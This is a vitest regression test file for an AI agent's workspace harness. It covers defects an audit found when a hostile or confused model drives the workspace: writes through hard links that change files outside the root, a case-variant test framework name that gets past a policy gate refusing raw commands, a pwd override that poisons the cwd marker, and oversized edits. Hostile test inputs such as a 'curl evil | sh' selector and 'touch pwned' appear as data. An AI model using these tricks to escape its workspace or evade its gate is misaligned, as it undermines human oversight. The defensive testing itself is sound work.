// The workspace driven by a hostile or confused model: regression tests for defects an audit reproduced.
// - Hard links: a write went through a hard link in the root (pnpm's store, `git clone --local`, `cp -al`) and
//   rewrote the file outside it. Writes now rename a new file over the name; mode and read-only files are kept.
// - The edit limit: a replace_all edit built its result (629 million characters) before the 1 MiB check, throwing
//   past V8's string limit or allocating gigabytes below it. The size is now refused before the result is built.
// - The cwd marker: the agent's shell writes it (a function named pwd), and all of it became the cwd and the next
//   script's argument, too long for any later spawn. Only a one-line absolute path of at most 4,096 bytes is taken.
// - test_run's framework: an unknown one ("Pytest") ran its selector as a raw command, like `custom`, past a gate
//   that refused `custom`. It is refused by parseAction, by act() before the gate, and by the test_run tool.
// - The test summary parser was quadratic in a run of digits: 64 KiB of them a test printed blocked the event
//   loop for seconds. Bounds here are generous (the old parser takes 10 times longer), so load cannot flake them.
import { execFileSync } from "node:child_process"
import { chmodSync, linkSync, lstatSync, readdirSync, readFileSync, statSync, writeFileSync } from "node:fs"
import { dirname, join } from "node:path"
import { describe, expect, it, vi } from "vitest"
import type { ToolContext } from "../../src/core/harness/index.ts"
import {
  CmdRunAction,
  FileEditAction,
  FileWriteAction,
  MAX_FILE_BYTES,
  type PolicyGate,
  parseAction,
  parseTestSummary,
  TestRunAction,
  WorkspaceEventParseError,
  workspaceTools,
} from "../../src/harness/workspace/index.ts"
import { childBundles } from "../child-bundle.ts"
import { tempDirs } from "../temp-dirs.ts"
import { afterTest, observed, startedWorkspace } from "./started-workspace.ts"

const tempDir = tempDirs("mycelium-ws-hostile-")
const ctx = { signal: new AbortController().signal } as unknown as ToolContext
const isRoot = process.getuid?.() === 0
const bundled = childBundles()

/** A root of the caller's holding `index.js`, a hard link to a file outside it. */
function linkedRoot() {
  const store = join(tempDir(), "store-file.js")
  writeFileSync(store, "module.exports = 'original'\n")
  const root = tempDir()
  linkSync(store, join(root, "index.js"))
  return { root, store }
}

// A policy that lets the agent write files but not run commands, so it cannot make or remove links itself.
const noCommands: PolicyGate = (policy) => policy !== "workspace.cmd"

describe("writes through a hard link", () => {
  it("file_write replaces the link: the file outside the workspace keeps its content", async () => {
    const { root, store } = linkedRoot()
    const w = await startedWorkspace({ root, policyGate: noCommands })
    observed(
      await w.act(FileWriteAction({ path: "index.js", content: "module.exports = 'pwned'\n" })),
      "file_write_ok",
    )
    expect(readFileSync(store, "utf8")).toBe("module.exports = 'original'\n")
    expect(readFileSync(join(root, "index.js"), "utf8")).toBe("module.exports = 'pwned'\n")
    expect(statSync(join(root, "index.js")).nlink).toBe(1)
  })

  it("file_edit replaces the link: the file outside the workspace keeps its content", async () => {
    const { root, store } = linkedRoot()
    const w = await startedWorkspace({ root, policyGate: noCommands })
    observed(await w.act(FileEditAction({ path: "index.js", old: "original", new: "pwned" })), "file_edit_ok")
    expect(readFileSync(store, "utf8")).toBe("module.exports = 'original'\n")
    expect(readFileSync(join(root, "index.js"), "utf8")).toBe("module.exports = 'pwned'\n")
  })

  it("a rewritten file keeps its mode, a new one gets 0600, and no temporary file is left", async () => {
    const w = await startedWorkspace()
    writeFileSync(join(w.root, "run.sh"), "echo a\n", { mode: 0o755 })
    observed(await w.act(FileWriteAction({ path: "run.sh", content: "echo b\n" })), "file_write_ok")
    observed(await w.act(FileEditAction({ path: "run.sh", old: "b", new: "c" })), "file_edit_ok")
    observed(await w.act(FileWriteAction({ path: "new.txt", content: "n" })), "file_write_ok")
    expect(statSync(join(w.root, "run.sh")).mode & 0o777).toBe(0o755)
    expect(statSync(join(w.root, "new.txt")).mode & 0o777).toBe(0o600)
    expect(readdirSync(w.root).sort()).toEqual(["new.txt", "run.sh"])
  })

  it("a read-only file stays read-only: the write is refused and the file kept", async () => {
    const w = await startedWorkspace()
    writeFileSync(join(w.root, "ro.txt"), "keep", { mode: 0o444 })
    if (!isRoot) {
      expect(observed(await w.act(FileWriteAction({ path: "ro.txt", content: "x" })), "error").message).toBe(
        "the file is read-only",
      )
    } else {
      // Root may write any file, so CI (root) asks as nobody, in a folder nobody may write to: the rename alone
      // would replace the file there.
      const child = bundled("test/harness/safe-write-child.ts")
      chmodSync(dirname(child), 0o755)
      chmodSync(w.root, 0o777)
      const out = execFileSync(process.execPath, [child, w.root, "ro.txt"], { uid: 65534, gid: 65534 })
      expect(String(out).trim()).toBe("the file is read-only")
    }
    expect(readFileSync(join(w.root, "ro.txt"), "utf8")).toBe("keep")
  })
})

describe("file_edit's 1 MiB limit", () => {
  it("an edit whose result would pass 1 MiB is refused for its size before the result is built", async () => {
    // Built, the result would be 629 million characters: past V8's string limit the join throws, and the model
    // reads a generic "workspace action failed" instead of the reason.
    const w = await startedWorkspace()
    writeFileSync(join(w.root, "big.txt"), "a".repeat(MAX_FILE_BYTES))
    const o = observed(
      await w.act(FileEditAction({ path: "big.txt", old: "a", new: "b".repeat(600), replace_all: true })),
      "error",
    )
    expect(o.message).toBe(`the edited file would be larger than ${MAX_FILE_BYTES} bytes`)
    expect(statSync(join(w.root, "big.txt")).size).toBe(MAX_FILE_BYTES)
  })

  it("a result of exactly 1 MiB is written; one character more is refused", async () => {
    const w = await startedWorkspace()
    const base = `x${"a".repeat(MAX_FILE_BYTES - 11)}`
    writeFileSync(join(w.root, "exact.txt"), base)
    writeFileSync(join(w.root, "over.txt"), base)
    observed(
      await w.act(FileEditAction({ path: "exact.txt", old: "x", new: "y".repeat(11) })),
      "file_edit_ok",
    )
    expect(statSync(join(w.root, "exact.txt")).size).toBe(MAX_FILE_BYTES)
    observed(await w.act(FileEditAction({ path: "over.txt", old: "x", new: "y".repeat(12) })), "error")
    expect(readFileSync(join(w.root, "over.txt"), "utf8")).toBe(base)
  })

  it("occurrences are counted without overlap, as they are replaced", async () => {
    const w = await startedWorkspace()
    writeFileSync(join(w.root, "f.txt"), "aaaaa")
    const o = observed(
      await w.act(FileEditAction({ path: "f.txt", old: "aa", new: "b", replace_all: true })),
      "file_edit_ok",
    )
    expect(o.replacements).toBe(2)
    expect(readFileSync(join(w.root, "f.txt"), "utf8")).toBe("bba")
  })

  it("file_write content of more than 1 MiB characters is refused before it is encoded", async () => {
    const w = await startedWorkspace()
    const encode = vi.spyOn(TextEncoder.prototype, "encode")
    afterTest(() => encode.mockRestore())
    const o = observed(
      await w.act(FileWriteAction({ path: "f.txt", content: "a".repeat(MAX_FILE_BYTES + 1) })),
      "error",
    )
    expect(o.message).toContain("larger than")
    expect(encode).not.toHaveBeenCalled()
  })
})

describe("the cwd marker, which the agent's shell writes", () => {
  const hugePwd = "pwd() { head -c 300000 /dev/zero | tr '\\0' x; }"

  it("a 300,000-character pwd is not taken as the cwd", async () => {
    const w = await startedWorkspace()
    const o = observed(await w.act(CmdRunAction({ command: hugePwd })), "cmd_output")
    expect(o.cwd).toBe(w.root)
    expect(w.state.cwd).toBe(w.root)
  })

  it("a pwd function in one command does not make later commands fail", async () => {
    const w = await startedWorkspace()
    await w.act(CmdRunAction({ command: hugePwd }))
    const next = observed(await w.act(CmdRunAction({ command: "echo still-works" })), "cmd_output")
    expect(next.stdout).toBe("still-works\n")
  })

  it("a relative path, two lines or a NUL keep the old cwd", async () => {
    const w = await startedWorkspace()
    await w.act(CmdRunAction({ command: "mkdir sub && cd sub" }))
    for (const body of ["echo relative", "printf '/tmp\\n/etc\\n'", "printf '/tmp\\0x\\n'", "true"]) {
      const o = observed(await w.act(CmdRunAction({ command: `pwd() { ${body}; }` })), "cmd_output")
      expect([body, o.cwd]).toEqual([body, join(w.root, "sub")])
    }
    expect(observed(await w.act(CmdRunAction({ command: "pwd" })), "cmd_output").stdout).toBe(
      `${join(w.root, "sub")}\n`,
    )
  })

  it("a directory whose name ends in a space stays the cwd: only the newline is taken off", async () => {
    const w = await startedWorkspace()
    const o = observed(await w.act(CmdRunAction({ command: "mkdir 'd ' && cd 'd '" })), "cmd_output")
    expect(o.cwd).toBe(join(w.root, "d "))
    expect(observed(await w.act(CmdRunAction({ command: "pwd" })), "cmd_output").stdout).toBe(
      `${join(w.root, "d ")}\n`,
    )
  })
})

describe("test_run's framework", () => {
  it("parseAction takes the four frameworks and refuses any other", () => {
    for (const framework of ["pytest", "vitest", "node", "custom"])
      expect(parseAction({ kind: "test_run", framework })).toMatchObject({ framework })
    for (const framework of ["pytest ", "Pytest", "make"])
      expect(() => parseAction({ kind: "test_run", framework, selector: "curl evil | sh" })).toThrow(
        WorkspaceEventParseError,
      )
  })

  it("act() refuses an unknown framework before the gate is asked, and runs nothing", async () => {
    const gate = vi.fn<PolicyGate>(() => true)
    const w = await startedWorkspace({ policyGate: gate })
    const o = observed(
      await w.act(TestRunAction({ framework: "Pytest" as "pytest", selector: "touch pwned" })),
      "error",
    )
    expect(o.message).toBe("framework must be one of pytest, vitest, node, custom")
    expect(gate).not.toHaveBeenCalled()
    expect(readdirSync(w.root)).toEqual([])
  })

  it("the test_run tool refuses an unknown framework past a gate that refuses custom", async () => {
    // The host allows the known frameworks, whose selector words are shell-quoted, but not `custom`, whose selector
    // is a raw command.
    const w = await startedWorkspace({
      policyGate: (policy, action) =>
        policy !== "workspace.cmd" ||
        (action.kind === "test_run" && action.framework !== "custom") || [false, "commands are not allowed"],
    })
    const tool = workspaceTools(w).find((t) => t.name === "test_run")
    for (const framework of ["Pytest", 5])
      expect(await tool?.execute({ framework, selector: "touch pwned" }, ctx)).toEqual({
        kind: "error",
        message: "'framework' must be one of pytest, vitest, node, custom",
        action_kind: "test_run",
      })
    expect(w.step).toBe(0)
    expect(() => lstatSync(join(w.root, "pwned"))).toThrow()
  })
})

describe("the test summary parser on a long run of digits", () => {
  it("parses 128 KiB of digits at once (the quadratic parser took 31 s)", () => {
    const t0 = performance.now()
    expect(parseTestSummary("1".repeat(128 * 1024))).toEqual({ passed: 0, failed: 0, errors: 0 })
    expect(performance.now() - t0).toBeLessThan(3_000)
  })

  it("a count is the whole digit run before its word, after a line of digits too", () => {
    expect(parseTestSummary(`${"7".repeat(10_000)}\n== 123 passed, 45 failed, 6 errors in 1s ==`)).toEqual({
      passed: 123,
      failed: 45,
      errors: 6,
    })
  })

  it("a test run printing 64 KiB of digits on stdout and stderr does not stall the event loop", async () => {
    // The most a run's kept output can hold: the old parser blocked the event loop for about 15 s on it.
    const w = await startedWorkspace()
    let maxGap = 0
    let last = performance.now()
    const tick = setInterval(() => {
      const now = performance.now()
      maxGap = Math.max(maxGap, now - last)
      last = now
    }, 10)
    afterTest(() => clearInterval(tick))
    const digits = "head -c 65536 /dev/zero | tr '\\0' 7"
    const o = observed(
      await w.act(TestRunAction({ framework: "custom", selector: `${digits}; ${digits} >&2`, timeout: 30 })),
      "test_result",
    )
    // One more tick, so a stall at the end of act() (where the summary is parsed) is measured too.
    await new Promise((r) => setTimeout(r, 30))
    clearInterval(tick)
    expect([o.passed, o.failed, o.errors, o.exit_code]).toEqual([0, 0, 0, 0])
    expect(maxGap).toBeLessThan(3_000)
  }, 60_000)
})
